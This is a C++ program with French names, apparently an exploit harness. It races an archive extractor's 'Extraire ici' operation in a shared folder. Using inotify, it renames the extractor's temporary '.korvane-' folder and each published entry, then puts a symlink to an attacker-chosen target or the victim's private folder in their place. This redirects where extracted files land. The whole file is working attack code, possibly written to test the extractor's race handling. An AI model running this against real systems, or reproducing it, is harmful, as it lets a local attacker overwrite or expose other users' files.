// A stranger who can write the folder where an archive lies, racing "Extraire ici" from the
// moment it is told of each change there: a folder made for a pass ("*.korvane-*") is renamed away
// and, in its place, comes the victim's own folder PRIVE lying there, or else a link to VICTIME;
// a name published, and the folder of the pass still there then, are swapped for such a link.
// Started by root, it becomes the user UID first. It says "pret" once it watches, then a line for
// each swap done.
//   course_ici UID DOSSIER VICTIME [PRIVE]

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include <grp.h>
#include <sys/inotify.h>
#include <unistd.h>

int main(int argc, char* argv[]) {
    const auto u = uid_t(argc >= 4 ? std::strtoul(argv[1], nullptr, 10) : 0);
    if (argc < 4 ||
        (::getuid() == 0 &&
         (::setgroups(0, nullptr) != 0 || ::setgid(u) != 0 || ::setuid(u) != 0)) ||
        ::chdir(argv[2]) != 0) {
        return 2;
    }
    const int guet = ::inotify_init1(IN_CLOEXEC);
    if (::inotify_add_watch(guet, ".", IN_CREATE | IN_MOVED_TO) < 0) {
        return 2;
    }
    std::setvbuf(stdout, nullptr, _IOLBF, 0);
    std::puts("pret");
    std::string passe; // the name of the pass's folder, once seen
    int n = 0;
    const auto echanger = [&](const std::string& nom, const char* prive) {
        const std::string loin = "pris-" + std::to_string(n++);
        if (::rename(nom.c_str(), loin.c_str()) == 0 &&
            (prive != nullptr ? ::rename(prive, nom.c_str()) : ::symlink(argv[3], nom.c_str())) ==
                0) {
            std::printf("%s\n", nom.c_str());
        }
    };
    alignas(inotify_event) char tampon[8192];
    for (;;) {
        const ssize_t lu = ::read(guet, tampon, sizeof tampon);
        for (ssize_t i = 0; i < lu;) {
            const auto* e = reinterpret_cast<const inotify_event*>(tampon + i);
            i += ssize_t(sizeof(inotify_event) + e->len);
            const std::string nom = e->len > 0 ? e->name : "";
            // Its own moves come back as events too: only the window's are answered.
            if ((e->mask & IN_CREATE) && (e->mask & IN_ISDIR) &&
                nom.find(".korvane-") != std::string::npos) {
                echanger(passe = nom, argc > 4 ? argv[4] : nullptr);
            } else if ((e->mask & IN_MOVED_TO) && nom.rfind("pris-", 0) != 0 && nom != passe &&
                       (argc < 5 || nom != argv[4])) {
                echanger(nom, nullptr);
                if (!passe.empty()) {
                    echanger(passe, nullptr);
                }
            }
        }
    }
}
